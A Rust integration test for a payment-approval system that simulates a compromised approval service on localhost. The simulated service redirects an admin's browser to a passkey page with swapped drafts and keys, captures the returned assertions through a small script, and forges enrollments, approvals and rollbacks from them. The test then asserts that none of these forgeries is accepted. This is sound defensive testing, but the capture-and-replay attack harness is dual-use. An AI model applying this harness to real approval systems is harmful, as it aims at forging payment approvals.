//! A compromised approval service can obtain no signature but what the
//! human saw, in Chromium, on a real nats-server with k8s/nats/auth.conf.
//!
//! The approval service's pages, scripts and challenges are the attacker's
//! (an HTTP server of this test, at the origin the passkey page gives
//! assertions back to), and it writes with the approval service's own NATS
//! user. The passkey page is the real one, on its own read-only NATS user
//! and its own RP ID (`passkey.localhost`); the admin's passkey lives in a
//! CDP virtual authenticator. Through the attacker's app she signs in,
//! approves the payment she meant, and countersigns the approver she meant;
//! when the attacker sends her to approve another draft or to vouch for
//! its own key, the passkey page shows that, and she cancels.
//!
//! The attacker then records everything it can build from what came back:
//! its own key's enrollment countersigned by each assertion, approvals of
//! another draft, of a SPEND.md version and of a rollback made of each, and
//! approvals by its own key. Afterwards no enrollment the admin did not
//! intend is trusted, and no approval of anything she did not see verifies
//! anywhere: the executor (running, pushing to the sandbox platform), the
//! policy service's versions, the gateway's view and the ledger's draft
//! book, each folding the log with its own code. The sandbox applied the
//! one payment she approved, and nothing else. Then the genuine path
//! goes on: the approver she countersigned approves, and it is pushed.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::extract::State;
use axum::response::{Html, IntoResponse, Redirect};
use axum::routing::{get, post};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use spend_core::events::{
    ApprovalGranted, ApprovalProof, ApproverRegistered, Countersignature, EventData, Outcome, PolicyProposed, RollbackApproved, RollbackItem, RollbackRequested,
};
use spend_core::{Actor, Envelope, RawEnvelope};
use spend_draft::approvers::Role;
use spend_draft::humans::Human;
use spend_draft::proof::{RelyingParty, enroll_challenge, fingerprint};
use spend_eventlog::{Append, EventLog, Recorder};
use spend_executor::push::{PushConfig, Pusher};
use spend_testkit::authnats::AuthNats;
use spend_testkit::events::{decided, on_log, payment_proposed, subject_of};

use crate::common::Platform;

const ORG: &str = "acme";
const POLICY: &str = "spend:\n  daily_limit: 300 USD\n  per_transaction: 100 USD\n";
/// What the attacker would like in force: limits loosened, a mandate.
const LOOSER: &str = "spend:\n  daily_limit: 3000 USD\n  per_transaction: 1000 USD\napproval:\n  auto_approve_under: 500 USD\n";

async fn put(log: &Arc<dyn EventLog>, env: &Envelope) -> u64 {
    log.append(Append::new(subject_of("spend.evt", env), env.id.to_string(), env.to_bytes()))
        .await
        .expect("appending")
        .seq
}

fn by_approval(subject: &str, data: EventData) -> Envelope {
    Envelope::new("spendsignoff/approval", ORG, Actor::human("ada@acme.example"), subject, data)
}

fn registered(h: &Human, email: &str) -> Envelope {
    let der = h.key.public_key_der();
    by_approval(
        &format!("approver/{}", h.approver_id),
        EventData::ApproverRegistered(ApproverRegistered {
            invite_id: format!("inv_{}", h.approver_id),
            approver_id: h.approver_id.clone(),
            org: ORG.into(),
            email: email.into(),
            role: h.role.as_str().into(),
            credential_id: h.credential_id.clone(),
            public_key_spki_b64: STANDARD.encode(&der),
            fingerprint: fingerprint(&der),
            rp_id: h.key.rp.rp_id.clone(),
            origin: h.key.rp.origin.clone(),
        }),
    )
}

/// What the passkey page gave back, as the attacker's return page took it.
#[derive(Debug, Clone)]
struct Taken {
    ceremony: String,
    credential_id: String,
    authenticator_data: String,
    client_data_json: String,
    signature: String,
}

impl Taken {
    fn parse(fragment: &str) -> Self {
        let f: BTreeMap<String, String> = url_decode_pairs(fragment);
        let g = |k: &str| f.get(k).cloned().unwrap_or_else(|| panic!("no {k} in {fragment}"));
        Self {
            ceremony: g("ceremony"),
            credential_id: g("credential_id"),
            authenticator_data: g("authenticator_data"),
            client_data_json: g("client_data_json"),
            signature: g("signature"),
        }
    }

    fn countersignature(&self) -> Countersignature {
        Countersignature {
            approver_id: "ada".into(),
            credential_id: self.credential_id.clone(),
            authenticator_data: self.authenticator_data.clone(),
            client_data_json: self.client_data_json.clone(),
            signature: self.signature.clone(),
        }
    }

    /// A proof of `id` (whose event hashes to `hash`) made of this
    /// assertion, with the fields the attacker chose when it sent her.
    fn proof(&self, id: &str, hash: &str, sent: &Sent) -> ApprovalProof {
        ApprovalProof {
            approval_id: sent.approval_id.clone(),
            draft_id: id.into(),
            approved_hash: hash.into(),
            policy_version: sent.policy_version.clone(),
            expires_at: sent.expires_at.clone(),
            approver_id: "ada".into(),
            credential_id: self.credential_id.clone(),
            authenticator_data: self.authenticator_data.clone(),
            client_data_json: self.client_data_json.clone(),
            signature: self.signature.clone(),
        }
    }
}

/// The fragment's `application/x-www-form-urlencoded` pairs (the passkey
/// page writes them with `URLSearchParams`).
fn url_decode_pairs(s: &str) -> BTreeMap<String, String> {
    let url = reqwest::Url::parse(&format!("http://fragment.invalid/?{s}")).expect("a query");
    url.query_pairs().map(|(k, v)| (k.into_owned(), v.into_owned())).collect()
}

/// The approval fields the attacker sends her to the passkey page with.
#[derive(Debug, Clone)]
struct Sent {
    approval_id: String,
    policy_version: String,
    expires_at: String,
}

/// The attacker's app: every page sends the admin to the passkey page with
/// what the attacker chose, and the return page hands over the fragment.
#[derive(Clone)]
struct Attacker {
    passkey: String,
    credential: String,
    /// The sign-in nonce: the attacker's own key's enrollment challenge,
    /// in hex, hoping the page signs it.
    nonce: String,
    meant: Sent,
    taken: Arc<Mutex<Vec<String>>>,
}

fn attacker_router(a: Attacker) -> axum::Router {
    let approve = |draft: &'static str| {
        move |State(a): State<Attacker>| async move {
            let s = &a.meant;
            Redirect::to(&format!(
                "{}/approve?org={ORG}&kind=draft&id={draft}&approval_id={}&policy_version={}&expires_at={}&credential={}&back=/",
                a.passkey,
                s.approval_id,
                s.policy_version.replace(':', "%3A"),
                s.expires_at.replace(':', "%3A"),
                a.credential
            ))
        }
    };
    let countersign = |who: &'static str| {
        move |State(a): State<Attacker>| async move {
            Redirect::to(&format!(
                "{}/countersign?org={ORG}&approver={who}&credential={}&ceremony=cs_{}&back=/",
                a.passkey, a.credential, "0123456789abcdef"
            ))
        }
    };
    axum::Router::new()
        .route(
            "/signin",
            get(|State(a): State<Attacker>| async move {
                Redirect::to(&format!(
                    "{}/signin?nonce={}&email=ada%40acme.example&credentials={}",
                    a.passkey, a.nonce, a.credential
                ))
            }),
        )
        .route("/approve", get(approve("d_meant")))
        .route("/approve-swapped", get(approve("d_other")))
        .route("/countersign", get(countersign("bob")))
        .route("/countersign-swapped", get(countersign("evil")))
        .route(
            "/passkey/return",
            get(|| async {
                Html(
                    "<!doctype html><title>returned</title><script>fetch('/take',{method:'POST',body:location.hash.slice(1)}).then(()=>{document.title='taken'})</script>",
                )
            }),
        )
        .route(
            "/take",
            post(|State(a): State<Attacker>, body: String| async move {
                a.taken.lock().unwrap().push(body);
                "ok".into_response()
            }),
        )
        .with_state(a)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_compromised_approval_service_obtains_no_signature_but_what_the_admin_saw() {
    let nats = AuthNats::with_streams().await;
    let (gateway, policy, approval, executor, operator, reader) = (
        nats.log_as("gateway").await,
        nats.log_as("policy").await,
        nats.log_as("approval").await,
        nats.log_as("executor").await,
        nats.log_as("operator").await,
        nats.log_as("passkey").await,
    );

    // The passkey page's relying party: every verifier pins it.
    let passkey_listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let passkey_port = passkey_listener.local_addr().unwrap().port();
    drop(passkey_listener);
    let rp = RelyingParty::new("passkey.localhost", format!("http://passkey.localhost:{passkey_port}"));

    // The platform, card_1 writable, and the executor pushing.
    let platform = Platform::start().await;
    let db = spend_testkit::TestDatabase::create().await;
    let connections = platform.connections(executor.clone(), "spend.evt", &db.url, None).await;
    crate::common::writable(&connections, &["card_1"]).await;
    let bootstrap = Arc::new(spend_policy::spendmd::parse(POLICY).unwrap());
    let pusher = Pusher::new(
        Recorder::new(executor.clone(), "spend.evt", spend_core::authority::Writer::Executor),
        connections,
        &platform.base,
        PushConfig::new(bootstrap.clone(), rp.clone()),
    )
    .unwrap();
    let (stop, stopped) = tokio::sync::watch::channel(false);
    let running = tokio::spawn(pusher.run(stopped));

    // Ada, the anchored first admin, whose passkey is in her browser; bob,
    // who enrolled and waits for her countersignature; and the attacker's
    // own admin key, registered by the approval service's credentials.
    let ada = Human::on("ada", Role::Admin, rp.clone());
    let mut bob = Human::on("bob", Role::Approver, rp.clone());
    let mut evil = Human::on("evil", Role::Admin, rp.clone());
    let mut first = ada.enrolled(ORG, None);
    first.email = Some("ada@acme.example".into());
    put(&approval, &by_approval("approver/ada", EventData::ApproverEnrolled(first))).await;
    put(
        &operator,
        &Envelope::new(
            "spendsignoff/cli",
            ORG,
            Actor::human("operator"),
            format!("anchor/{ORG}"),
            EventData::ApproverAnchored(ada.anchored(ORG)),
        ),
    )
    .await;
    put(&approval, &registered(&bob, "bob@acme.example")).await;
    put(&approval, &registered(&evil, "evil@acme.example")).await;

    // Two payments wait for a human: the one she means to approve, and
    // another; and an operator's SPEND.md proposal that loosens the limits.
    let meant = payment_proposed(ORG, "d_meant", 1_000);
    let other = payment_proposed(ORG, "d_other", 4_000);
    let (meant_hash, other_hash) = (spend_draft::event_hash(&meant.to_bytes()), spend_draft::event_hash(&other.to_bytes()));
    put(&gateway, &meant).await;
    put(&gateway, &other).await;
    put(&policy, &decided(ORG, "d_meant", Outcome::RequireApproval)).await;
    put(&policy, &decided(ORG, "d_other", Outcome::RequireApproval)).await;
    let looser_version = spend_policy::spendmd::version_of(LOOSER);
    let proposal = Envelope::new(
        "spendsignoff/cli",
        ORG,
        Actor::human("operator"),
        "policy/p_looser",
        EventData::PolicyProposed(PolicyProposed {
            draft_id: "p_looser".into(),
            version: looser_version.clone(),
            source: LOOSER.into(),
            previous_version: None,
            enables_auto_approve: true,
        }),
    );
    let proposal_hash = spend_draft::event_hash(&proposal.to_bytes());
    put(&operator, &proposal).await;

    // The real passkey page, reading the log as its own user, giving
    // assertions back to the attacker's origin.
    let attacker_listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let attacker_origin = format!("http://localhost:{}", attacker_listener.local_addr().unwrap().port());
    let page = spend_passkey::Application::build(
        spend_passkey::PasskeyConfig {
            listen: format!("127.0.0.1:{passkey_port}"),
            rp: rp.clone(),
            app_origin: attacker_origin.clone(),
        },
        spend_passkey::Deps {
            log: reader.clone(),
            prefix: "spend.evt".into(),
        },
    )
    .await
    .unwrap();
    let page_task = tokio::spawn(page.run_until_stopped(std::future::pending()));

    // The attacker's app.
    let evil_der = evil.key.public_key_der();
    let evil_challenge = enroll_challenge(ORG, "evil", "admin", &evil.credential_id, &evil_der);
    let sent = Sent {
        approval_id: "apr_0123456789abcdef0123456789abcdef".into(),
        policy_version: "sha256:test".into(),
        expires_at: (chrono::Utc::now() + chrono::Duration::hours(1)).to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
    };
    let taken = Arc::new(Mutex::new(Vec::new()));
    let attacker = Attacker {
        passkey: rp.origin.clone(),
        credential: ada.credential_id.clone(),
        nonce: hex::encode(evil_challenge),
        meant: sent.clone(),
        taken: taken.clone(),
    };
    let attacker_task = tokio::spawn(async move { axum::serve(attacker_listener, attacker_router(attacker)).await });

    // The admin, in Chromium.
    let meant_words = match &meant.data {
        EventData::DraftProposed(p) => spend_draft::display::describe(&p.change, &p.account_id),
        _ => unreachable!(),
    };
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/browser/passkey_attack.mjs");
    let out = tokio::task::spawn_blocking({
        let (passkey, attacker, cred, key, words) = (
            rp.origin.clone(),
            attacker_origin.clone(),
            ada.credential_id.clone(),
            STANDARD.encode(ada.key.private_key_pkcs8_der()),
            meant_words.clone(),
        );
        move || {
            std::process::Command::new("node")
                .arg(script)
                .env("PASSKEY", passkey)
                .env("ATTACKER", attacker)
                .env("CREDENTIAL_ID", cred)
                .env("PRIVATE_KEY", key)
                .env("RP_ID", "passkey.localhost")
                .env("MEANT_DRAFT", words)
                .env("MEANT_APPROVER", "bob@acme.example")
                .output()
                .expect("node runs (scripts/test.sh installs it)")
        }
    })
    .await
    .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        out.status.success(),
        "the browser run failed:\n{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let seen: serde_json::Value = serde_json::from_str(stdout.trim().lines().last().unwrap()).unwrap();

    // What the passkey page showed her: a sign-in to the attacker's origin
    // (never a countersignature), the payment in words from its bytes, bob
    // and his key; the swapped draft and key, as they are.
    let shown = |k: &str| seen[k]["shown"].as_str().unwrap_or_default().to_string();
    let signed = |k: &str| seen[k]["signed"].as_bool().unwrap_or(false);
    assert!(shown("signin").contains(&format!("Sign in to {attacker_origin} as ada@acme.example")), "{seen}");
    assert!(shown("approve").contains("Pay 10.00 USD to openai.com (US, https) from card crd_1"), "{seen}");
    assert!(shown("countersign").contains(&fingerprint(&bob.key.public_key_der())), "{seen}");
    assert!(shown("swapped").contains("Pay 40.00 USD to openai.com"), "the other draft, as it is: {seen}");
    assert!(shown("swapped_countersign").contains("Vouch for evil@acme.example as admin"), "{seen}");
    assert_eq!(
        (
            signed("signin"),
            signed("approve"),
            signed("countersign"),
            signed("swapped"),
            signed("swapped_countersign")
        ),
        (true, true, true, false, false),
        "{seen}"
    );
    let taken: Vec<Taken> = taken.lock().unwrap().iter().map(|f| Taken::parse(f)).collect();
    assert_eq!(taken.len(), 3, "{taken:?}");
    let (signin, approved, countersigned) = (&taken[0], &taken[1], &taken[2]);
    assert_eq!(signin.ceremony, hex::encode(evil_challenge), "the nonce came back, unsigned as such");

    // The attacker records all it can build from them, with the approval
    // service's own credentials:
    // - its own key's enrollment, countersigned by each assertion;
    for t in &taken {
        let mut e = evil.enrolled(ORG, None);
        e.countersignature = Some(t.countersignature());
        put(&approval, &by_approval("approver/evil", EventData::ApproverEnrolled(e))).await;
    }
    // - approvals of the other draft, of the SPEND.md version and of a
    //   rollback of the payment she approved, made of each assertion;
    let rollback = by_approval(
        "approval/rb_evil",
        EventData::RollbackRequested(RollbackRequested {
            rollback_id: "rb_evil".into(),
            changes: vec![RollbackItem {
                change_id: spend_executor::push::change_id("d_meant"),
                draft_id: "d_meant".into(),
            }],
            reason: "refund it to us".into(),
            requested_by: "ada".into(),
            expires_at: sent.expires_at.clone(),
        }),
    );
    let rollback_hash = spend_draft::event_hash(&rollback.to_bytes());
    put(&approval, &rollback).await;
    for (i, t) in taken.iter().enumerate() {
        for (id, hash) in [("d_other", &other_hash), ("p_looser", &proposal_hash)] {
            let mut proof = t.proof(id, hash, &sent);
            proof.approval_id = format!("{}{i}", &sent.approval_id[..sent.approval_id.len() - 1]);
            let g = ApprovalGranted {
                draft_id: id.into(),
                approval_id: proof.approval_id.clone(),
                step: 1,
                credential_id: t.credential_id.clone(),
                approver_id: "ada".into(),
                approved_hash: hash.to_string(),
                proof,
            };
            put(&approval, &by_approval(&format!("approval/{id}"), EventData::ApprovalGranted(g))).await;
        }
    }
    // - approvals by its own key, of the other draft and of the version.
    put(
        &approval,
        &by_approval(
            "approval/d_other",
            EventData::ApprovalGranted(evil.grant("d_other", &other_hash, "sha256:test", &sent.expires_at, 1)),
        ),
    )
    .await;
    put(
        &approval,
        &by_approval(
            "approval/p_looser",
            EventData::ApprovalGranted(evil.grant("p_looser", &proposal_hash, &looser_version, &sent.expires_at, 1)),
        ),
    )
    .await;

    // What she did mean is recorded as the app would: her approval of the
    // payment she saw, and her countersignature of bob.
    let g = ApprovalGranted {
        draft_id: "d_meant".into(),
        approval_id: sent.approval_id.clone(),
        step: 1,
        credential_id: approved.credential_id.clone(),
        approver_id: "ada".into(),
        approved_hash: meant_hash.clone(),
        proof: approved.proof("d_meant", &meant_hash, &sent),
    };
    put(&approval, &by_approval("approval/d_meant", EventData::ApprovalGranted(g))).await;
    let mut bobs = bob.enrolled(ORG, None);
    bobs.countersignature = Some(countersigned.countersignature());
    put(&approval, &by_approval("approver/bob", EventData::ApproverEnrolled(bobs))).await;

    // The executor pushes the payment she approved, and nothing else.
    let applied = |base: String| async move { spend_testkit::sandbox_control::get(&base, "/sandbox/applied").await };
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let a = applied(platform.base.clone()).await;
        if a["by_key"]["d_meant"] == 1 {
            break;
        }
        assert!(Instant::now() < deadline, "the payment she approved was never pushed: {a}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // A rollback approval made of the same assertion: nothing refunded.
    let mut rb = approved.proof("rb_evil", &rollback_hash, &sent);
    rb.approval_id = "apr_ffffffffffffffffffffffffffffffff".into();
    put(
        &approval,
        &by_approval(
            "approval/rb_evil",
            EventData::RollbackApproved(RollbackApproved(ApprovalGranted {
                draft_id: "rb_evil".into(),
                approval_id: rb.approval_id.clone(),
                step: 1,
                credential_id: rb.credential_id.clone(),
                approver_id: "ada".into(),
                approved_hash: rollback_hash.clone(),
                proof: rb,
            })),
        ),
    )
    .await;
    tokio::time::sleep(Duration::from_secs(3)).await;
    let a = applied(platform.base.clone()).await;
    assert_eq!(a["writes"], 1, "one write, the payment she saw: {a}");
    assert!(a["by_key"].get("d_other").is_none() && a["by_key"].get("rb_evil-d_meant").is_none(), "{a}");
    assert_eq!(a["charged_minor"], 1_000, "{a}");

    // Every other fold of the log: the attacker's key is trusted nowhere,
    // bob is; the other draft is approved nowhere; the version is not in
    // force.
    let log = reader.clone();
    let last = log.info().await.unwrap().last_seq;
    let mut view = spend_gateway::view::View::new(rp.clone(), Some(bootstrap.clone()));
    let mut versions = spend_policy::versions::Versions::new(Some(bootstrap.clone()));
    let mut approvers = spend_draft::approvers::Registry::new(rp.clone());
    let mut book = spend_ledger::drafts::DraftBook::new(rp.clone());
    let mut ledger_moves = Vec::new();
    let mut stream = log.subscribe(spend_eventlog::StartAt::Sequence(1)).await.unwrap();
    use futures::StreamExt as _;
    while let Some(m) = stream.next().await {
        let m = m.unwrap();
        view.apply("spend.evt", &m);
        if let Ok(env) = RawEnvelope::parse(&m.payload) {
            versions.apply("spend.evt", &m, &env, &mut approvers);
        }
        if let Some(moved) = book.apply("spend.evt", &m) {
            ledger_moves.push(moved);
        }
        if m.seq >= last {
            break;
        }
    }
    assert!(approvers.approver(ORG, "bob").is_some(), "the approver she meant is trusted");
    assert!(approvers.approver(ORG, "evil").is_none(), "the attacker's key is trusted nowhere");
    assert!(!versions.is_approved(ORG, "p_looser"), "the loosened SPEND.md is not in force");
    let status = |id: &str| view.draft(ORG, id).map(|d| d.status().as_str().to_string());
    assert_eq!(status("d_other").as_deref(), Some("pending_approval"), "the gateway's view");
    let last_move = ledger_moves.iter().rfind(|m| m.draft_id == "d_other").map(|m| m.status.as_str());
    assert_eq!(last_move, Some("pending_approval"), "the ledger's draft book: {ledger_moves:?}");
    let alerts: Vec<String> = on_log(operator.as_ref())
        .await
        .iter()
        .filter(|(s, e)| s.contains(".security_executor.") && e["type"] == "spend.security.alert.v1")
        .map(|(_, e)| e["data"]["detail"].as_str().unwrap_or_default().to_string())
        .collect();
    assert!(alerts.iter().any(|d| d.contains("d_other")), "the forged approvals are audited: {alerts:?}");

    // The genuine path goes on: bob, whom she countersigned, approves the
    // other draft himself, and it is pushed.
    put(
        &approval,
        &by_approval(
            "approval/d_other",
            EventData::ApprovalGranted(bob.grant("d_other", &other_hash, "sha256:test", &sent.expires_at, 1)),
        ),
    )
    .await;
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let a = applied(platform.base.clone()).await;
        if a["by_key"]["d_other"] == 1 {
            assert_eq!(a["writes"], 2, "{a}");
            break;
        }
        assert!(Instant::now() < deadline, "bob's genuine approval was never pushed: {a}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let _ = stop.send(true);
    running.await.unwrap();
    page_task.abort();
    attacker_task.abort();
    drop(nats);
    drop(db);
}
